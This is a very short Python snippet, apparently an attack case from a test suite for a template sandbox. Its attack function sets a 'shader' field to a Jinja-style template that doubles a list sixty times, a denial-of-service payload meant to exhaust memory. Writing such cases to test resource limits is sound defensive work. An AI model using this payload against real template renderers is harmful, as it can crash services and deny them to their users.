# attack.txt says what this tries.
def attack(p):
    p.shader = '{% set n = namespace(s=[1]) %}{% for i in range(60) %}{% set n.s = n.s + n.s %}{% endfor %}'
